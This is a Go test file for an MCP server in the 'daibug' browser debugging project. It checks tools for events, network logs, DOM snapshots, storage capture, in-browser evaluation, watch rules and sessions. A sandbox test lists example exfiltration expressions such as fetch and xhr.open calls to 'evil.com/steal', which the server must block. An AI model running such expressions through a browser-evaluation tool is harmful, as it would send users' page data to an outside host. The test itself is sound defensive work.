package mcpserver

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	mcpsdk "github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/daibug/daibug/pkg/hub"
	"github.com/daibug/daibug/pkg/models"
	"github.com/daibug/daibug/pkg/session"
)

// fakeBackend implements every capability interface with canned data and
// records the commands it was asked to broadcast.
type fakeBackend struct {
	events []models.Event
	inters []models.Interaction

	clearedEvents bool

	commands []map[string]any
	cmdEvent models.Event
	cmdErr   error

	rules   []models.WatchRule
	watched []models.WatchedEvent

	sessionID  string
	sessionErr error
	stopped    *session.Session
	active     bool
	summary    *session.Summary
	exported   string
}

func (f *fakeBackend) EventsSnapshot() []models.Event { return f.events }
func (f *fakeBackend) ClearEvents() int {
	f.clearedEvents = true
	n := len(f.events)
	f.events = nil
	return n
}
func (f *fakeBackend) InteractionsSnapshot() []models.Interaction { return f.inters }

func (f *fakeBackend) Command(_ context.Context, cmd map[string]any, _ time.Duration, match func(models.Event) bool) (models.Event, error) {
	f.commands = append(f.commands, cmd)
	if f.cmdErr != nil {
		return models.Event{}, f.cmdErr
	}
	ev := f.cmdEvent
	if resp, ok := cmd["evaluationId"].(string); ok {
		if ev.Payload == nil {
			ev.Payload = map[string]any{}
		}
		ev.Payload["evaluationId"] = resp
	}
	if match(ev) {
		return ev, nil
	}
	return models.Event{}, fmt.Errorf("%w: no matching response", hub.ErrCommandTimeout)
}

func (f *fakeBackend) AddWatchRule(label string, source models.Source, conds models.WatchConditions) (models.WatchRule, error) {
	if label == "" {
		return models.WatchRule{}, models.NewValidationError("label", "label is required")
	}
	if conds.IsZero() {
		return models.WatchRule{}, models.NewValidationError("conditions", "at least one condition is required")
	}
	rule := models.WatchRule{ID: "rule_0000000000001_001", Label: label, Source: source, Conditions: conds, Active: true}
	f.rules = append(f.rules, rule)
	return rule, nil
}

func (f *fakeBackend) RemoveWatchRule(id string) bool {
	for i, r := range f.rules {
		if r.ID == id {
			f.rules = append(f.rules[:i], f.rules[i+1:]...)
			return true
		}
	}
	return false
}
func (f *fakeBackend) WatchRules() []models.WatchRule { return f.rules }
func (f *fakeBackend) WatchedEvents(limit int, ruleID string) []models.WatchedEvent {
	return f.watched
}
func (f *fakeBackend) ClearWatchedEvents() int {
	n := len(f.watched)
	f.watched = nil
	return n
}

func (f *fakeBackend) StartSession(label string) (string, error) {
	if f.sessionErr != nil {
		return "", f.sessionErr
	}
	f.active = true
	return f.sessionID, nil
}
func (f *fakeBackend) StopSession() (*session.Session, error) {
	if f.stopped == nil {
		return nil, fmt.Errorf("%w: no active session", models.ErrNotFound)
	}
	f.active = false
	return f.stopped, nil
}
func (f *fakeBackend) ExportSession(path string) error {
	f.exported = path
	return nil
}
func (f *fakeBackend) SessionState() (bool, *session.Summary) { return f.active, f.summary }

// connect builds a server over the fake and returns a live client session.
func connect(t *testing.T, f *fakeBackend) *mcpsdk.ClientSession {
	t.Helper()

	srv := NewServer(Backends{
		Events:       f,
		Interactions: f,
		Commands:     f,
		Watch:        f,
		Sessions:     f,
	})
	clientTransport, serverTransport := mcpsdk.NewInMemoryTransports()
	go func() {
		_ = srv.mcp.Run(context.Background(), serverTransport)
	}()

	client := mcpsdk.NewClient(&mcpsdk.Implementation{Name: "test-client", Version: "test"}, nil)
	sess, err := client.Connect(context.Background(), clientTransport, nil)
	require.NoError(t, err)
	t.Cleanup(func() { _ = sess.Close() })
	return sess
}

// callTool invokes one tool and decodes its single JSON text fragment.
func callTool(t *testing.T, sess *mcpsdk.ClientSession, name string, args map[string]any) (map[string]any, bool) {
	t.Helper()

	res, err := sess.CallTool(context.Background(), &mcpsdk.CallToolParams{
		Name:      name,
		Arguments: args,
	})
	require.NoError(t, err)
	require.NotEmpty(t, res.Content)

	tc, ok := res.Content[0].(*mcpsdk.TextContent)
	require.True(t, ok, "tool must return text content")

	var out map[string]any
	require.NoError(t, json.Unmarshal([]byte(tc.Text), &out))
	return out, res.IsError
}

func netEvent(ts int64, status int, url string) models.Event {
	return models.Event{
		ID: fmt.Sprintf("evt_%013d_001", ts), TS: ts,
		Source: models.SourceBrowserNetwork, Level: models.LevelInfo,
		Payload: map[string]any{"url": url, "method": "GET", "status": status},
	}
}

func TestToolDiscovery(t *testing.T) {
	sess := connect(t, &fakeBackend{})

	res, err := sess.ListTools(context.Background(), nil)
	require.NoError(t, err)

	names := make(map[string]bool, len(res.Tools))
	for _, tool := range res.Tools {
		names[tool.Name] = true
	}
	for _, want := range []string{
		"get_events", "get_network_log", "replay_interactions", "clear_events",
		"snapshot_dom", "get_component_state", "capture_storage", "evaluate_in_browser",
		"add_watch_rule", "remove_watch_rule", "list_watch_rules",
		"get_watched_events", "clear_watched_events",
		"start_session", "stop_session", "export_session",
		"import_session", "diff_sessions", "get_session_summary",
	} {
		assert.True(t, names[want], "missing tool %s", want)
	}
}

func TestGetEventsFiltersAndLimit(t *testing.T) {
	f := &fakeBackend{}
	for i := 1; i <= 5; i++ {
		f.events = append(f.events, models.Event{
			ID: fmt.Sprintf("evt_%013d_001", i), TS: int64(i),
			Source: models.SourceBrowserConsole, Level: models.LevelError,
			Payload: map[string]any{"message": fmt.Sprintf("err %d", i)},
		})
	}
	f.events = append(f.events, models.Event{
		ID: "evt_0000000000006_001", TS: 6,
		Source: models.SourceVite, Level: models.LevelInfo,
		Payload: map[string]any{"message": "ready"},
	})
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "get_events", map[string]any{
		"source": "browser:console", "level": "error", "limit": 2,
	})
	require.False(t, isErr)
	assert.Equal(t, float64(5), out["total"])
	events := out["events"].([]any)
	require.Len(t, events, 2)
	last := events[1].(map[string]any)
	assert.Equal(t, float64(5), last["ts"])
}

func TestGetEventsSinceAndTab(t *testing.T) {
	f := &fakeBackend{events: []models.Event{
		{ID: "evt_0000000000001_001", TS: 1, Source: models.SourceBrowserConsole,
			Level: models.LevelInfo, Payload: map[string]any{"message": "old"}},
		{ID: "evt_0000000000002_001", TS: 2, Source: models.SourceBrowserConsole,
			Level: models.LevelInfo, Payload: map[string]any{"message": "tab a", "tabId": "a"}},
		{ID: "evt_0000000000003_001", TS: 3, Source: models.SourceBrowserConsole,
			Level: models.LevelInfo, Payload: map[string]any{"message": "tab b", "tabId": "b"}},
		{ID: "evt_0000000000004_001", TS: 4, Source: models.SourceBrowserConsole,
			Level: models.LevelInfo, Payload: map[string]any{"message": "no tab"}},
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "get_events", map[string]any{"since": 1, "tab_id": "a"})
	require.False(t, isErr)
	events := out["events"].([]any)
	require.Len(t, events, 2)
	assert.Equal(t, "tab a", events[0].(map[string]any)["payload"].(map[string]any)["message"])
	assert.Equal(t, "no tab", events[1].(map[string]any)["payload"].(map[string]any)["message"])
}

func TestGetNetworkLogCursorAdvances(t *testing.T) {
	f := &fakeBackend{events: []models.Event{
		netEvent(10, 200, "http://localhost:3000/api/a"),
		netEvent(20, 500, "http://localhost:3000/api/b"),
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "get_network_log", nil)
	require.False(t, isErr)
	assert.Equal(t, float64(2), out["count"])

	// Nothing new: the cursor has advanced past both events.
	out, isErr = callTool(t, sess, "get_network_log", nil)
	require.False(t, isErr)
	assert.Equal(t, float64(0), out["count"])

	f.events = append(f.events, netEvent(30, 404, "http://localhost:3000/api/c"))
	out, _ = callTool(t, sess, "get_network_log", nil)
	assert.Equal(t, float64(1), out["count"])
}

func TestGetNetworkLogSuccessSplit(t *testing.T) {
	f := &fakeBackend{events: []models.Event{
		netEvent(10, 200, "http://localhost:3000/api/ok"),
		netEvent(20, 500, "http://localhost:3000/api/boom"),
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "get_network_log", map[string]any{"include_successful": false})
	require.False(t, isErr)
	require.Equal(t, float64(1), out["count"])
	reqs := out["requests"].([]any)
	payload := reqs[0].(map[string]any)["payload"].(map[string]any)
	assert.Equal(t, float64(500), payload["status"])
}

func TestReplayInteractions(t *testing.T) {
	f := &fakeBackend{}
	for i := 0; i < 60; i++ {
		f.inters = append(f.inters, models.Interaction{
			ID: fmt.Sprintf("int_%013d_001", i), TS: int64(i),
			Type: "click", Target: fmt.Sprintf("#btn-%d", i),
		})
	}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "replay_interactions", nil)
	require.False(t, isErr)
	assert.Equal(t, float64(60), out["total"])
	inters := out["interactions"].([]any)
	require.Len(t, inters, 50)
	assert.Equal(t, "#btn-10", inters[0].(map[string]any)["target"])
}

func TestClearEvents(t *testing.T) {
	f := &fakeBackend{events: []models.Event{netEvent(1, 200, "http://localhost:3000/")}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "clear_events", nil)
	require.False(t, isErr)
	assert.Equal(t, true, out["cleared"])
	assert.NotZero(t, out["timestamp"])
	assert.True(t, f.clearedEvents)
}

func TestSnapshotDOMCorrelatedResponse(t *testing.T) {
	f := &fakeBackend{cmdEvent: models.Event{
		ID: "evt_0000000000009_001", TS: 9,
		Source: models.SourceBrowserDOM, Level: models.LevelInfo,
		Payload: map[string]any{"type": "dom_snapshot", "html": "<main>hi</main>"},
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "snapshot_dom", map[string]any{"selector": "main"})
	require.False(t, isErr)
	assert.Equal(t, "<main>hi</main>", out["html"])

	require.Len(t, f.commands, 1)
	assert.Equal(t, "snapshot_dom", f.commands[0]["command"])
	assert.Equal(t, "main", f.commands[0]["selector"])
}

func TestSnapshotDOMTimeout(t *testing.T) {
	f := &fakeBackend{cmdEvent: models.Event{
		Source: models.SourceBrowserConsole,
		Payload: map[string]any{"message": "not a snapshot"},
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "snapshot_dom", nil)
	assert.True(t, isErr)
	assert.Contains(t, out["error"], "timed out")
}

func TestGetComponentStateAcceptsBothTypeSpellings(t *testing.T) {
	for _, typ := range []string{"react_tree", "react-tree"} {
		f := &fakeBackend{cmdEvent: models.Event{
			Source:  models.SourceBrowserDOM,
			Payload: map[string]any{"type": typ, "tree": map[string]any{"name": "App"}},
		}}
		sess := connect(t, f)

		out, isErr := callTool(t, sess, "get_component_state", nil)
		require.False(t, isErr, "type %s", typ)
		assert.Equal(t, typ, out["type"])
	}
}

func TestCaptureStorage(t *testing.T) {
	f := &fakeBackend{cmdEvent: models.Event{
		Source: models.SourceBrowserStorage,
		Payload: map[string]any{
			"type":         "storage_snapshot",
			"localStorage": map[string]any{"theme": "dark"},
		},
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "capture_storage", nil)
	require.False(t, isErr)
	assert.Equal(t, "dark", out["localStorage"].(map[string]any)["theme"])
	require.Len(t, f.commands, 1)
	assert.Equal(t, "capture_storage", f.commands[0]["command"])
}

func TestEvaluateInBrowser(t *testing.T) {
	f := &fakeBackend{cmdEvent: models.Event{
		Source:  models.SourceBrowserDOM,
		Payload: map[string]any{"result": float64(42)},
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "evaluate_in_browser", map[string]any{
		"expression": "21 * 2",
	})
	require.False(t, isErr)
	assert.Equal(t, float64(42), out["result"])

	require.Len(t, f.commands, 1)
	assert.Equal(t, "evaluate", f.commands[0]["command"])
	assert.Equal(t, "21 * 2", f.commands[0]["expression"])
	assert.NotEmpty(t, f.commands[0]["evaluationId"])
}

func TestEvaluateInBrowserRequiresExpression(t *testing.T) {
	f := &fakeBackend{}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "evaluate_in_browser", map[string]any{"expression": "  "})
	assert.True(t, isErr)
	assert.Contains(t, out["error"], "expression is required")
	assert.Empty(t, f.commands)
}

func TestEvaluateInBrowserSandbox(t *testing.T) {
	cases := []struct {
		name       string
		expression string
		blocked    bool
	}{
		{"fetch to external host", `fetch('https://evil.com/x')`, true},
		{"fetch to localhost", `fetch('http://localhost:3000/api')`, false},
		{"fetch to loopback ip", `fetch("http://127.0.0.1:3000/api")`, false},
		{"relative fetch", `fetch('/api/users')`, false},
		{"xhr open external", `xhr.open('GET', 'https://evil.com/steal')`, true},
		{"xhr open localhost", `xhr.open('POST', 'http://localhost:5000/events')`, false},
		{"no network calls", `document.title`, false},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := &fakeBackend{cmdEvent: models.Event{
				Payload: map[string]any{"result": "ok"},
			}}
			sess := connect(t, f)

			out, isErr := callTool(t, sess, "evaluate_in_browser", map[string]any{
				"expression": tc.expression,
			})
			if tc.blocked {
				require.True(t, isErr)
				assert.Equal(t, sandboxViolationMsg, out["error"])
				// Nothing may reach the browser on a violation.
				assert.Empty(t, f.commands)
			} else {
				require.False(t, isErr, "expression %q", tc.expression)
				require.Len(t, f.commands, 1)
			}
		})
	}
}

func TestEvaluateInBrowserPayloadError(t *testing.T) {
	f := &fakeBackend{cmdEvent: models.Event{
		Payload: map[string]any{"error": "ReferenceError: nope is not defined"},
	}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "evaluate_in_browser", map[string]any{
		"expression": "nope()",
	})
	assert.True(t, isErr)
	assert.Contains(t, out["error"], "ReferenceError")
}

func TestAddWatchRuleTranslatesConditions(t *testing.T) {
	f := &fakeBackend{}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "add_watch_rule", map[string]any{
		"label":        "api failures",
		"source":       "browser:network",
		"status_codes": []int{500, 502},
		"url_pattern":  "**/api/**",
		"methods":      []string{"POST"},
	})
	require.False(t, isErr)
	require.Contains(t, out, "rule")

	require.Len(t, f.rules, 1)
	assert.Equal(t, "api failures", f.rules[0].Label)
	assert.Equal(t, models.SourceBrowserNetwork, f.rules[0].Source)
	assert.Equal(t, []int{500, 502}, f.rules[0].Conditions.StatusCodes)
	assert.Equal(t, "**/api/**", f.rules[0].Conditions.URLPattern)
	assert.Equal(t, []string{"POST"}, f.rules[0].Conditions.Methods)
}

func TestAddWatchRuleValidation(t *testing.T) {
	f := &fakeBackend{}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "add_watch_rule", map[string]any{
		"label": "no conditions",
	})
	assert.True(t, isErr)
	assert.Contains(t, out["error"], "condition")
	assert.Empty(t, f.rules)
}

func TestRemoveWatchRule(t *testing.T) {
	f := &fakeBackend{rules: []models.WatchRule{{ID: "rule_0000000000001_001", Label: "x"}}}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "remove_watch_rule", map[string]any{
		"rule_id": "rule_0000000000001_001",
	})
	require.False(t, isErr)
	assert.Equal(t, true, out["removed"])

	out, isErr = callTool(t, sess, "remove_watch_rule", map[string]any{
		"rule_id": "rule_0000000000001_001",
	})
	assert.True(t, isErr)
	assert.Contains(t, out["error"], "not found")
}

func TestSessionTools(t *testing.T) {
	f := &fakeBackend{
		sessionID: "session_1700000000000",
		stopped: &session.Session{
			Version: session.FormatVersion,
			ID:      "session_1700000000000",
			Summary: session.Summary{TotalEvents: 4, TopErrors: []string{}},
		},
		summary: &session.Summary{TotalEvents: 4, TopErrors: []string{}},
	}
	sess := connect(t, f)

	out, isErr := callTool(t, sess, "start_session", map[string]any{"label": "checkout"})
	require.False(t, isErr)
	assert.Equal(t, "session_1700000000000", out["sessionId"])

	out, isErr = callTool(t, sess, "get_session_summary", nil)
	require.False(t, isErr)
	assert.Equal(t, true, out["active"])
	assert.Equal(t, float64(4), out["summary"].(map[string]any)["totalEvents"])

	out, isErr = callTool(t, sess, "stop_session", nil)
	require.False(t, isErr)
	assert.Equal(t, "session_1700000000000", out["sessionId"])

	out, isErr = callTool(t, sess, "export_session", map[string]any{"path": "/tmp/s.json"})
	require.False(t, isErr)
	assert.Equal(t, true, out["exported"])
	assert.Equal(t, "/tmp/s.json", f.exported)
}

func TestImportAndDiffSessions(t *testing.T) {
	dir := t.TempDir()
	pathA := filepath.Join(dir, "a.json")
	pathB := filepath.Join(dir, "b.json")

	a := session.Session{
		Version: session.FormatVersion, ID: "session_1",
		Events: []models.Event{{
			ID: "evt_0000000000001_001", TS: 1,
			Source: models.SourceBrowserConsole, Level: models.LevelError,
			Payload: map[string]any{"message": "boom"},
		}},
	}
	a.Summary = session.ComputeSummary(a.Events, nil)
	b := session.Session{Version: session.FormatVersion, ID: "session_2"}
	b.Summary = session.ComputeSummary(nil, nil)
	writeSession(t, pathA, a)
	writeSession(t, pathB, b)

	sess := connect(t, &fakeBackend{})

	out, isErr := callTool(t, sess, "import_session", map[string]any{"path": pathA})
	require.False(t, isErr)
	assert.Equal(t, "session_1", out["sessionId"])

	out, isErr = callTool(t, sess, "diff_sessions", map[string]any{
		"path_a": pathA, "path_b": pathB,
	})
	require.False(t, isErr)
	require.Contains(t, out, "eventDiff")
	require.Contains(t, out, "summary")

	out, isErr = callTool(t, sess, "import_session", map[string]any{
		"path": filepath.Join(dir, "missing.json"),
	})
	assert.True(t, isErr)
	assert.Contains(t, out["error"], "failed to read")
}

func writeSession(t *testing.T, path string, s session.Session) {
	t.Helper()
	data, err := json.Marshal(s)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(path, data, 0o644))
}
